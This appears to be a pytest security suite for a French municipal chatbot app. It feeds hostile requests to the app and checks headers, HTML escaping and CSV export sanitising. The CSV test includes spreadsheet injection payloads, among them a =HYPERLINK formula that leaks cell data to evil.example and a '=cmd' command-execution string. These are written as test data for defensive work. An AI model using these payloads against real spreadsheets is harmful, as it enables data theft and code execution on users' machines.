"""Hostile inputs, one named case each: every answer is a 4xx with a French message that echoes
nothing of what was sent (never a 5xx), and carries the security headers. Then the output side:
links, headers, the CSV export, the readable copy of a document. Stateful cases have their own
files: staff sign-ins (test_staff_sessions.py), database faults (test_database_faults.py), the
queue under a burst (test_queue_burst.py), the log (test_logs.py), the widget (test_widget_links.py)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from chatbot.wiring import Services
from tests.security.conftest import ask, sign_in
from tests.security.fast_app import HOSTILE_URL, fast_app

SECRET = "SECRET-DU-RESIDENT"
BIG = "ÉCHO-" + "x" * 20_000 + SECRET
JSON = {"content-type": "application/json"}
FORM = {"content-type": "application/x-www-form-urlencoded"}


@dataclass(frozen=True)
class Hostile:
    """One hostile request and what it must get."""

    name: str
    method: str
    path: str
    statuses: tuple[int, ...]
    kwargs: dict[str, Any] = field(default_factory=dict)


def _raw(text: str) -> dict[str, Any]:
    """A JSON body written by hand (json.dumps would refuse a lone surrogate escape)."""
    return {"content": text.encode("utf-8"), "headers": JSON}


def _chunks(total: int) -> Iterator[bytes]:
    sent = 0
    while sent < total:
        yield b'{"message": "' if sent == 0 else b"A" * 65536
        sent += 65536


CASES = [
    Hostile("lone surrogate in a message (a)", "POST", "/api/chat", (422,),
            _raw('{"message": "Bonjour \\ud800 ' + SECRET + '"}')),
    Hostile("lone surrogate in a streamed message (a)", "POST", "/api/chat/stream", (422,),
            _raw('{"message": "\\udfff' + SECRET + '"}')),
    Hostile("lone surrogate in a session id (a)", "POST", "/api/chat", (422,),
            _raw('{"message": "Bonjour", "session_id": "\\ud83d' + SECRET + '"}')),
    Hostile("lone surrogate in a feedback comment (a)", "POST", "/api/feedback", (422,),
            _raw('{"answer_id": "x", "helpful": true, "comment": "\\ud800' + SECRET + '"}')),
    Hostile("NUL character in a message", "POST", "/api/chat", (422,),
            _raw('{"message": "Bonjour\\u0000' + SECRET + '"}')),
    Hostile("bytes that are not UTF-8", "POST", "/api/chat", (400, 422),
            {"content": b'{"message": "\xff\xfe' + SECRET.encode() + b'"}', "headers": JSON}),
    Hostile("broken JSON", "POST", "/api/chat", (400, 422),
            {"content": ('{"message": "' + SECRET).encode(), "headers": JSON}),
    Hostile("a 10 MB message (h)", "POST", "/api/chat", (413,),
            {"json": {"message": "A" * 10_000_000 + SECRET}}),
    Hostile("a 10 MB body without a declared length (h)", "POST", "/api/chat", (413,),
            {"content": _chunks(10_000_000), "headers": JSON}),
    Hostile("a lying Content-Length", "POST", "/api/chat", (400,),
            {"content": b"{}", "headers": {**JSON, "content-length": "12abc"}}),
    Hostile("a long message of the wrong type (h)", "POST", "/api/chat", (422,),
            {"json": {"message": [BIG[:30_000]]}}),
    Hostile("a long session id (h)", "POST", "/api/chat", (422,),
            {"json": {"message": "Bonjour", "session_id": BIG[:30_000]}}),
    Hostile("a long answer id", "POST", "/api/feedback", (422,),
            {"json": {"answer_id": BIG[:30_000], "helpful": True}}),
    Hostile("a long question in a search", "GET", "/api/search", (422,),
            {"params": {"q": BIG[:5_000]}}),
    Hostile("a long session id in a path", "GET", "/api/sessions/" + BIG[:5_000] + "/export",
            (422,)),
    Hostile("a plain-text body", "POST", "/api/chat", (422,),
            {"content": SECRET.encode(), "headers": {"content-type": "text/plain"}}),
    Hostile("an unknown document with markup", "GET", "/sources/<script>" + SECRET, (404,)),
    Hostile("a sign-in posted from another site (k)", "POST", "/login", (403,),
            {"content": f"token={SECRET}", "headers": {**FORM, "Origin": "https://evil.example"}}),
    Hostile("a form posted from another port of the same host (k)", "POST", "/agent/ask",
            (403,), {"content": f"question={SECRET}",
                     "headers": {**FORM, "Origin": "http://testserver:8443"}}),
    Hostile("a staff API call with a forged token", "GET", "/api/staff/answers", (401,),
            {"headers": {"Authorization": "Bearer " + SECRET}}),
]  # fmt: skip


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    app, _ = fast_app(tmp_path_factory.mktemp("hostile") / "data")
    with TestClient(app, follow_redirects=False) as client:
        yield client


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_a_hostile_request_gets_a_short_4xx_that_echoes_nothing(
    client: TestClient, case: Hostile
) -> None:
    response = client.request(case.method, case.path, **case.kwargs)
    assert response.status_code in case.statuses, (response.status_code, response.text[:300])
    assert SECRET not in response.text and len(response.content) < 4_000
    assert response.headers["x-content-type-options"] == "nosniff"
    if response.headers["content-type"].startswith("application/json"):
        detail = response.json()["detail"]
        assert isinstance(detail, str) and detail  # a sentence in French, not a list of values


def test_the_consoles_never_link_a_javascript_url(fast: tuple[TestClient, Services]) -> None:
    """(b) A manifest `url` of javascript:… links to the readable copy instead."""
    client, services = fast
    _, csrf = sign_in(client, services, "agent")
    search = client.get("/agent", params={"q": "encombrants"})
    answered = client.post("/agent/ask", data={"question": "Les encombrants ?", "csrf_token": csrf})
    assert search.status_code == answered.status_code == 200
    for page in (search.text, answered.text):
        assert "javascript:" not in page.lower() and '<a href="/sources/piege">' in page
        assert '<a href="https://www.ville.example/dechets">' in page


def test_every_response_carries_the_security_headers(fast: tuple[TestClient, Services]) -> None:
    """(d) CSP, frame-ancestors, nosniff and Referrer-Policy everywhere; / and /login unframable."""
    client, _ = fast
    for path in ("/", "/login", "/agent", "/api/health", "/docs", "/widget.js", "/openapi.json",
                 "/static/console.css", "/sources/piege", "/absent"):  # fmt: skip
        headers = client.get(path).headers
        policy = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy and "default-src 'none'" in policy, path
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] == "same-origin", path
        assert headers["x-frame-options"] == "DENY", path
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, path
    assert "script-src 'self'" in client.get("/login").headers["content-security-policy"]
    assert "cross-origin-resource-policy" not in client.get("/widget.js").headers  # embeddable


def test_the_demo_page_may_be_framed_by_the_configured_sites_only(tmp_path: Path) -> None:
    app, _ = fast_app(tmp_path / "data", frame_ancestors=["https://www.ville.example"])
    with TestClient(app) as client:
        demo = client.get("/").headers
        assert "frame-ancestors https://www.ville.example" in demo["content-security-policy"]
        assert "x-frame-options" not in demo
        login = client.get("/login").headers
        assert "frame-ancestors 'none'" in login["content-security-policy"]


def test_the_api_page_loads_nothing_from_elsewhere(tmp_path: Path) -> None:
    """(d) /docs is rendered here from the schema (no CDN, no script), or turned off."""
    app, _ = fast_app(tmp_path / "a")
    with TestClient(app) as client:
        page = client.get("/docs")
        assert page.status_code == 200 and "<script" not in page.text
        assert "cdn" not in page.text.lower() and "POST /api/chat/stream" in page.text
        assert '<link rel="stylesheet" href="/static/console.css">' in page.text
        assert client.get("/redoc").status_code == 404
    app, _ = fast_app(tmp_path / "b", api_docs=False)
    with TestClient(app) as client:
        assert client.get("/docs").status_code == 404
        assert "/api/chat" in client.get("/openapi.json").json()["paths"]


def test_the_csv_export_neutralises_formulas(fast: tuple[TestClient, Services]) -> None:
    """(e) A resident's =HYPERLINK(...) reaches the spreadsheet as text."""
    client, services = fast
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")', "+33 1 00", "-2+3",
               "@SUM(A1)", "\t=1+1", " =cmd|' /C calc'!A0"]  # fmt: skip
    for message in hostile:
        ask(client, message)
    sign_in(client, services, "auditor")
    export = client.get("/audit/export.csv")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    questions = [row["question"] for row in rows]
    assert any(q.startswith("'=HYPERLINK(") for q in questions), questions
    assert any(q.startswith("'@SUM(A1)") for q in questions), questions
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t")), value


def test_the_readable_copy_escapes_the_documents_html(fast: tuple[TestClient, Services]) -> None:
    client, _ = fast
    page = client.get("/sources/piege")
    assert page.status_code == 200
    assert "<script>" not in page.text and "<img" not in page.text and "<h1>Titre" not in page.text
    assert "&lt;script&gt;alert(&#x27;titre&#x27;)&lt;/script&gt;" in page.text
    assert HOSTILE_URL not in page.text  # not even as a link


def test_the_api_hands_citation_addresses_to_the_widget_unchanged(
    fast: tuple[TestClient, Services],
) -> None:
    """The JSON keeps the manifest's address as data; the widget decides what becomes a link
    (test_widget_links.py)."""
    client, _ = fast
    body = ask(client, "Les encombrants ?")
    assert json.dumps(body).count("javascript:") <= 2
